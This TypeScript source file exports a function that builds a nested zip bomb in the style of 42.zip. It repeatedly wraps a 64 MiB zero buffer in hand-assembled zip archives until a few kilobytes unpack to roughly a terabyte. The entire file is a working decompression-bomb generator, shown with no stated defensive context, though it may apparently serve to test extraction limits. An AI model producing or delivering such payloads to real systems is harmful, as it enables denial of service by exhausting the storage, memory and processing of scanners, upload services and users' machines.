import { crc32, deflateRawSync } from 'node:zlib'

/** An archive of archives of archives, as 42.zip is: some kilobytes that unfold into a terabyte. */
export function zipBomb(): Buffer {
  let inner = Buffer.alloc(64 * 2 ** 20)
  for (const copies of [16, 32, 32])
    inner = zipOf(Array.from({ length: copies }, (_, index) => [`${index}.zip`, inner]))
  return inner
}

function zipOf(files: [name: string, content: Buffer][]): Buffer<ArrayBuffer> {
  const [first] = files
  // All are the same, so it is folded once.
  const folded = deflateRawSync(first?.[1] ?? '')
  const sum = crc32(first?.[1] ?? '')
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, content] of files) {
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(sum, 10)
    facts.writeUInt32LE(folded.length, 14)
    facts.writeUInt32LE(content.length, 18)
    facts.writeUInt16LE(name.length, 22)
    const entry = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, Buffer.from(name), folded])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(offset, 10)
    const madeBy = Buffer.from([20, 0])
    directory.push(Buffer.concat([Buffer.from('PK\x01\x02', 'latin1'), madeBy, facts, place, Buffer.from(name)]))
    parts.push(entry)
    offset += entry.length
  }
  const index = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(files.length, 4)
  end.writeUInt16LE(files.length, 6)
  end.writeUInt32LE(index.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...parts, index, Buffer.from('PK\x05\x06', 'latin1'), end])
}
